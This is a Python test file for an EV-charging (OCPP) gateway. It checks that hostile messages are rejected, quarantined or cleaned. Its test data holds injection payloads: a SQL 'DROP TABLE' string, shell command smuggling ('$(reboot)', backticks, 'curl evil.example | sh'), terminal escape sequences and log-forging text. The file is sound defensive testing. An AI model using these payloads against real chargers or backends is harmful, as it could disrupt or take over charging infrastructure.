"""Attacks C2, C5, C6, C7 and C9 through the running gateway: content that its schema allows and nobody wants."""

from typing import Any

from tests.attacks.town import TAG, Town, ago

INVALID = {"status": "Invalid"}
REFUSED = "SecurityError"


def values(value: str, at: str) -> list[dict[str, Any]]:
    return [{"timestamp": at, "sampledValue": [{"value": value, "unit": "Wh"}]}]


async def test_what_moves_money_waits_for_a_person(town_16: Town) -> None:
    start: dict[str, Any] = {"connectorId": 1, "idTag": TAG, "meterStart": 1000, "timestamp": ago(3600)}
    own = (await town_16.says("StartTransaction", **start))["transactionId"]
    hostile: list[tuple[str, str, Any]] = [
        ("time-in-money", "StartTransaction", {**start, "timestamp": "1970-01-01T00:00:01Z"}),
        ("time-in-money", "StartTransaction", {**start, "timestamp": "2199-01-01T00:00:00Z"}),
        ("register-of-transaction", "StartTransaction", {**start, "meterStart": -1}),
        ("register-of-transaction", "StartTransaction", {**start, "meterStart": 2**53}),
        ("numbers-of-station", "StartTransaction", {**start, "reservationId": 2**31}),
        ("place-of-station", "StartTransaction", {**start, "connectorId": 65_536}),
        ("token-form-in-money", "StartTransaction", {**start, "idTag": "A\r\nB"}),
        ("token-form-in-money", "StartTransaction", {**start, "idTag": "A\x1b[2J"}),
    ]
    for rule, action, payload in hostile:
        answer = await town_16.says(action, **payload)
        assert (rule, answer["idTagInfo"]) == (rule, INVALID)
    meter = {"connectorId": 1, "transactionId": own}
    for rule, payload in (
        ("time-of-meter-values-in-money", values("1100", "1970-01-01T00:00:01Z")),
        ("reading-as-text", values("NaN", ago(60))),
        ("reading-as-text", values("1e400", ago(60))),
        ("reading-as-text", values("1); DROP TABLE tx;--", ago(60))),
        ("text-in-money", values("1\x9b2J", ago(60))),
        ("many-readings", values("1100", ago(60)) * 2001),
    ):
        assert (rule, await town_16.says("MeterValues", **meter, meterValue=payload)) == (rule, {})
        hostile.append((rule, "MeterValues", payload))
    assert await town_16.says("MeterValues", **meter, meterValue=values("5000", ago(60))) == {}
    for rule, reading in (("meter-register", "10"), ("meter-register", "900000000")):
        assert (rule, await town_16.says("MeterValues", **meter, meterValue=values(reading, ago(30)))) == (rule, {})
        hostile.append((rule, "MeterValues", reading))

    await town_16.gateway.logged("quarantined", times=len(hostile))
    assert town_16.kept() == [rule for rule, *_ in hostile]
    await town_16.says("StopTransaction", transactionId=own, meterStop=5100, timestamp=ago())
    assert town_16.heard("StartTransaction") == [start]
    assert [each["meterValue"][0]["sampledValue"][0]["value"] for each in town_16.heard("MeterValues")] == ["5000"]
    assert [each["meterStop"] for each in town_16.heard("StopTransaction")] == [5100]


async def test_an_event_of_2_0_1_waits_too(town_201: Town, transaction_event: Any) -> None:
    token = {"idToken": {"idToken": TAG, "type": "ISO14443"}}
    changes: tuple[dict[str, Any], ...] = (
        {"timestamp": "1970-01-01T00:00:01Z"},
        {"wh": 1e15},
        {"tx": "a\x1b[2J"},
        {"idToken": {"idToken": "A\u202eB", "type": "Central"}},
    )
    for number, change in enumerate(changes):
        answer = await town_201.says("TransactionEvent", **transaction_event("Started", number, **{**token, **change}))
        assert answer == {"idTokenInfo": INVALID}

    await town_201.gateway.logged("quarantined", times=4)
    assert town_201.kept() == ["time-in-money", "reading", "token-form-in-money", "token-form-in-money"]
    assert town_201.heard("StartTransaction") == []


async def test_what_a_station_says_is_mended(town_16: Town) -> None:
    status = {"connectorId": 1, "errorCode": "NoError", "status": "Available"}
    forged = 'x\r\n{"event": "forged"}\x1b]0;owned\x07\u202e'

    assert await town_16.says("Authorize", idTag="A\nB") == {"idTagInfo": INVALID}
    assert await town_16.says("DataTransfer", vendorId=" ", data="x") == {"status": "UnknownVendorId"}
    await town_16.says("StatusNotification", **status, info=forged, timestamp="1970-01-01T00:00:01Z")
    [heard] = town_16.heard("StatusNotification")

    assert town_16.heard("Authorize") == town_16.heard("DataTransfer") == []
    assert heard["info"] == 'x {"event": "forged"}]0;owned'
    assert heard["timestamp"] > "2026"
    assert await town_16.says("StatusNotification", **{**status, "connectorId": -1}) == REFUSED
    assert '"event": "forged"' not in town_16.gateway.log.replace('\\"', "")


async def test_nothing_hostile_is_ordered(town_16: Town) -> None:
    town_16.station.answers |= {name: {"status": "Accepted"} for name in ("SendLocalList", "SetChargingProfile")}
    period, overflow = {"startPeriod": 0, "limit": 16.0}, 2**31
    profile = {"chargingProfileId": 1, "stackLevel": 0, "chargingProfilePurpose": "TxDefaultProfile"}
    for change in ({"limit": -1.0}, {"limit": 1e9}, {"startPeriod": -1}, {"numberPhases": 9}):
        schedule = {"chargingRateUnit": "A", "chargingSchedulePeriod": [{**period, **change}]}
        asked = {**profile, "chargingProfileKind": "Relative", "chargingSchedule": schedule}
        assert await town_16.orders("SetChargingProfile", connectorId=1, csChargingProfiles=asked) == {
            "status": "Rejected"
        }
    entry = {"idTag": TAG, "idTagInfo": {"status": "Accepted"}}
    for action, payload in (
        ("SendLocalList", {"listVersion": 1, "updateType": "Full", "localAuthorizationList": [entry] * 1001}),
        ("SendLocalList", {"listVersion": overflow, "updateType": "Full", "localAuthorizationList": [entry]}),
        ("RemoteStartTransaction", {"idTag": "`reboot`"}),
        ("RemoteStartTransaction", {"idTag": "A;reboot"}),
        ("ChangeConfiguration", {"key": "Text", "value": "x && curl evil.example | sh"}),
        ("DataTransfer", {"vendorId": "acme", "data": "$(reboot)"}),
        ("DataTransfer", {"vendorId": "acme", "data": "a\x1b[2J"}),
        ("DataTransfer", {"vendorId": "acme", "data": "x" * 40_000}),
        ("UnlockConnector", {"connectorId": -1}),
        ("ReserveNow", {"connectorId": 1, "expiryDate": "9999-12-31T00:00:00Z", "idTag": TAG, "reservationId": 1}),
    ):
        assert await town_16.orders(action, **payload) in {REFUSED, "PropertyConstraintViolation"}, payload

    assert town_16.station.asked == []


async def test_nothing_hostile_is_answered(town_16: Town) -> None:
    """A backend's answers are as hostile as its questions."""
    info = {"status": "Accepted", "parentIdTag": "A\x1b[2J", "expiryDate": "9999-12-31T00:00:00Z"}
    town_16.backend.answers["Authorize"] = {"idTagInfo": info}
    town_16.backend.answers["Heartbeat"] = {"currentTime": "1970-01-01T00:00:00Z"}
    town_16.backend.answers["BootNotification"] = {"status": "Accepted", "currentTime": ago(), "interval": -1}
    town_16.backend.answers["DataTransfer"] = {"status": "Accepted", "data": "a`reboot`"}

    assert await town_16.says("Authorize", idTag=TAG) == {"idTagInfo": {"status": "Accepted"}}
    assert (await town_16.says("Heartbeat"))["currentTime"] > "2026"
    assert (await town_16.says("BootNotification", **town_16.station.boot))["interval"] >= 0
    assert isinstance(await town_16.says("DataTransfer", vendorId="acme", data="x"), str)


async def test_storms_end(town_16: Town) -> None:
    town_16.station.answers |= {"Reset": {"status": "Accepted"}, "UnlockConnector": {"status": "Unlocked"}}

    resets = [(await town_16.orders("Reset", type="Hard"))["status"] for _ in range(20)]
    unlocks = [(await town_16.orders("UnlockConnector", connectorId=1))["status"] for _ in range(40)]
    boots = [await town_16.says("BootNotification", **town_16.station.boot) for _ in range(40)]

    assert (resets[:15], set(resets[16:])) == (["Accepted"] * 15, {"Rejected"})
    assert (unlocks[:30], unlocks[-1]) == (["Unlocked"] * 30, "UnlockFailed")
    assert boots[-1] == "GenericError"
    assert await town_16.says("Heartbeat") != "GenericError"
